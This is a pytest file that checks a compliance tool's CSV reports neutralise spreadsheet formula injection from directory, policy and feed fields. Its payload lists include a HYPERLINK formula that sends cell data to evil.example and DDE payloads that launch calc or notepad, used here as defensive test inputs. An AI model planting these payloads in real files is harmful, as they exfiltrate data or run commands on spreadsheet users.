"""CSV injection: no CSV the project writes can make a spreadsheet run a formula.

Department names come from the directory, rule ids from policy files, categories from
third-party feeds, and alerts read back from the store carry them all. A text cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (the OWASP list) must
reach the spreadsheet prefixed with a single quote, the original text following
unchanged; numbers the program computes stay plain numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from compliance.alerts import Alert
from compliance.cli import cli
from compliance.reports import ALERT_FIELDS, render_csv
from tests.conftest import ps_row, write_ps_export

ROOT = Path(__file__).resolve().parents[1]

# Defined here, not imported, so that the tests state the rule on their own.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# Payloads in the forms attackers use.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
# Alert fields that hold text (from directories, policies, feeds or the store); the
# pseudonym's field, `person`, is the CSV column `subject`.
TEXT_TYPES = ("str", "str | None", "list[str]")
COLUMN_OF = {"person": "subject"}
TEXT_FIELDS = tuple(
    f.name
    for f in dataclasses.fields(Alert)
    if COLUMN_OF.get(f.name, f.name) in ALERT_FIELDS and f.type in TEXT_TYPES
)
LIST_FIELDS = tuple(f.name for f in dataclasses.fields(Alert) if f.type == "list[str]")


def parse(text: str) -> tuple[list[str], list[dict[str, str]]]:
    """Header and rows of CSV text, read as a spreadsheet import would split it."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def expected_cell(value: Any) -> str:
    """What a text cell must read: the text, with a quote in front when it is dangerous."""
    text = "" if value is None else ";".join(value) if isinstance(value, list) else str(value)
    return "'" + text if text.startswith(DANGEROUS) else text


def assert_safe(row: dict[str, str], alert: dict[str, Any]) -> None:
    """Every text cell of ``row`` is ``alert``'s value, neutralised; numbers are digits."""
    assert set(row) == set(ALERT_FIELDS)
    for name, cell in row.items():
        value = alert[name]
        if isinstance(value, bool):
            assert cell == str(value), name
        elif isinstance(value, int):
            assert cell == str(value), name
            assert cell.isdigit(), (name, cell)
        else:
            assert not cell.startswith(DANGEROUS), (name, cell)
            assert cell == expected_cell(value), (name, cell)


def _alert(**changes: Any) -> Alert:
    base: dict[str, Any] = {
        "policy": "escort-ads",
        "policy_version": 3,
        "rule": "person",
        "rule_id": "repeated-contact",
        "severity": "high",
        "person": "p-3f9a0c",
        "org_unit": "Sales/EMEA",
        "messages": 12,
        "people": 1,
        "domains": ["escort-ads.test"],
        "categories": ["escort-ads"],
        "first_day": "2026-11-02",
        "last_day": "2026-11-04",
        "trigger_day": "2026-11-04",
    }
    return Alert(**{**base, **changes})


# --- the cell rule --------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_prefixes_dangerous_text(value: str) -> None:
    from compliance.csvsafe import safe_cell

    assert safe_cell(value) == "'" + value
    assert safe_cell([value, "b.test"]) == "'" + value + ";b.test"
    assert safe_cell((value,)) == "'" + value


def test_safe_cell_keeps_numbers_and_plain_text() -> None:
    from compliance.csvsafe import safe_cell

    for number in (-2, -1, 0, 7, -0.5, 2.25, -1e-9):
        result = safe_cell(number)
        assert result == number
        assert type(result) is type(number)
    assert safe_cell(True) is True
    assert safe_cell(False) is False
    assert safe_cell(None) == ""
    for text in ("", "Sales/EMEA", "escort-ads", "p-3f9a0c", "2026-11-02", "a=b", "x-1", "'q"):
        assert safe_cell(text) == text
    # a list is one cell: the spreadsheet sees the joined text, so only its start counts
    assert safe_cell(["escort-ads.test", "=1+1"]) == "escort-ads.test;=1+1"
    assert safe_cell([]) == ""


def test_write_csv_numbers_header_and_line_breaks() -> None:
    from compliance.csvsafe import write_csv

    text = write_csv(
        ["name", "=count"],
        [("-2+3", -2), ("x\r=1+1", -0.5), ("Sales, EMEA", 3), (["a", "b"], None)],
    )
    assert text == (
        "name,'=count\n"
        "'-2+3,-2\n"
        '"x\r=1+1",-0.5\n'  # a carriage return inside a cell is quoted: no new row
        '"Sales, EMEA",3\n'
        "a;b,\n"
    )
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["name", "'=count"],
        ["'-2+3", "-2"],
        ["x\r=1+1", "-0.5"],
        ["Sales, EMEA", "3"],
        ["a;b", ""],
    ]


# --- render_csv over alerts -----------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_render_csv_neutralises_every_text_field(value: str) -> None:
    assert {"policy", "rule_id", "person", "org_unit", "domains", "categories"} <= set(TEXT_FIELDS)
    alerts = [
        # every text field hostile; in a list, the hostile element comes first
        _alert(**{f: [value, "b.test"] if f in LIST_FIELDS else value for f in TEXT_FIELDS}),
        _alert(org_unit=value, person=None, rule="cluster", rule_id=value),
        _alert(categories=[value, "escort-ads"], domains=[value]),
    ]
    text = render_csv(alerts)
    header, rows = parse(text)
    assert tuple(header) == ALERT_FIELDS
    assert len(rows) == len(alerts)
    for row, alert in zip(rows, alerts, strict=True):
        assert_safe(row, alert.as_dict())
    assert rows[0]["org_unit"] == "'" + value
    assert rows[0]["domains"] == "'" + value + ";b.test"
    assert rows[1]["subject"] == ""


def test_render_csv_of_ordinary_alerts_is_unchanged() -> None:
    alerts = [
        _alert(),
        _alert(
            rule="cluster",
            rule_id="team-cluster",
            severity="critical",
            person=None,
            org_unit="Sales, EMEA",
            people=4,
            domains=["a.test", "b.test"],
            categories=["escort-ads", "adult"],
            draft=True,
        ),
    ]
    # what the csv module writes without neutralisation (lists joined with ';')
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(ALERT_FIELDS)
    for alert in alerts:
        values = (alert.as_dict()[f] for f in ALERT_FIELDS)
        writer.writerow([";".join(v) if isinstance(v, list) else v for v in values])
    text = render_csv(alerts)
    assert text == out.getvalue()
    assert ',"Sales, EMEA",' in text
    assert ",a.test;b.test,escort-ads;adult," in text


# --- end to end: compliance audit --format csv ----------------------------------------

EVIL_DEPARTMENT = '=HYPERLINK("http://evil.example","x")'


def _directory(path: Path, department: str, size: int = 12) -> Path:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["userPrincipalName", "displayName", "mail", "id", "department"])
    for n in range(1, size + 1):
        writer.writerow(
            [
                f"u{n}@corp.example",
                f"Test Person {n}",
                f"u{n}@corp.example",
                f"00000000-0000-4000-8000-{n:012d}",
                department,
            ]
        )
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def _export(path: Path) -> Path:
    """u1 on two days (a person alert), u1-u3 on one site (a team cluster)."""
    rows = [
        ps_row("11/2/2026 10:00:00 AM", "u1@corp.example", "book@escort-ads.test", index=1),
        ps_row("11/2/2026 11:00:00 AM", "u1@corp.example", "book@escort-ads.test", index=2),
        ps_row("11/4/2026 10:00:00 AM", "u1@corp.example", "book@escort-ads.test", index=3),
        ps_row("11/4/2026 10:00:00 AM", "u2@corp.example", "x@escort-ads.test", index=4),
        ps_row("11/5/2026 10:00:00 AM", "u3@corp.example", "y@escort-ads.test", index=5),
    ]
    return write_ps_export(path, rows, encoding="utf-16")


def _audit(*args: str) -> tuple[list[dict[str, Any]], str]:
    """The alerts of the audit as JSON, and the CSV of the same audit."""
    base = ["audit", *args, "--org-domain", "corp.example"]
    runner = CliRunner()
    as_json = runner.invoke(cli, [*base, "--format", "json"])
    assert as_json.exit_code == 0, as_json.output
    as_csv = runner.invoke(cli, [*base, "--format", "csv"])
    assert as_csv.exit_code == 0, as_csv.output
    return json.loads(as_json.output)["alerts"], as_csv.output


def test_audit_csv_neutralises_a_hostile_department(tmp_path: Path, escort_feed: Path) -> None:
    directory = _directory(tmp_path / "directory.csv", EVIL_DEPARTMENT)
    alerts, text = _audit(
        "--logs", str(_export(tmp_path / "trace.csv")),
        "--feed", f"{escort_feed}:escort-ads",
        "--policies", str(ROOT / "policies"),
        "--directory", str(directory),
    )  # fmt: skip
    assert {a["rule_id"] for a in alerts} == {"repeated-contact", "team-cluster"}
    # the unit keeps its twelve people, so the alerts name it (its path normalised: '//')
    units = {a["org_unit"] for a in alerts}
    assert units == {'=HYPERLINK("http:/evil.example","x")'}
    header, rows = parse(text)
    assert tuple(header) == ALERT_FIELDS
    assert len(rows) == len(alerts)
    for row, alert in zip(rows, alerts, strict=True):
        assert_safe(row, alert)
        assert row["org_unit"] == "'" + alert["org_unit"]
    figures = {r["rule_id"]: (r["messages"], r["people"]) for r in rows}
    assert figures == {"repeated-contact": ("3", "1"), "team-cluster": ("5", "3")}


def test_audit_csv_neutralises_hostile_rule_ids_and_feed_categories(tmp_path: Path) -> None:
    feed = tmp_path / "feed.csv"
    feed.write_text('domain,category\nescort-ads.test,"+SUM(1,2)"\n', encoding="utf-8")
    folder = tmp_path / "policies"
    folder.mkdir()
    (folder / "p.yaml").write_text(
        "id: hostile\n"
        "title: '=cmd|'' /C notepad''!''A1'''\n"
        "version: 1\n"
        "match: {direction: any, categories: ['+sum(1,2)']}\n"
        "rules:\n"
        "  - {id: \"@cmd|'/C calc'!A0\", kind: person, window: 30d, min_messages: 3,"
        " min_days: 2, severity: high}\n"
        "  - {id: '-2+3', kind: cluster, window: 30d, min_people: 3, same_domain: true,"
        " severity: critical}\n"
        "privacy: {min_group_size: 10}\n",
        encoding="utf-8",
    )
    directory = _directory(tmp_path / "directory.csv", "Sales/EMEA")
    alerts, text = _audit(
        "--logs", str(_export(tmp_path / "trace.csv")),
        "--feed", str(feed),
        "--policies", str(folder),
        "--directory", str(directory),
    )  # fmt: skip
    assert {a["rule_id"] for a in alerts} == {"@cmd|'/C calc'!A0", "-2+3"}
    assert {tuple(a["categories"]) for a in alerts} == {("+sum(1,2)",)}
    _, rows = parse(text)
    assert len(rows) == len(alerts)
    for row, alert in zip(rows, alerts, strict=True):
        assert_safe(row, alert)
        assert row["rule_id"] == "'" + alert["rule_id"]
        assert row["categories"] == "'+sum(1,2)"
        assert row["org_unit"] == "Sales/EMEA"  # ordinary text is untouched
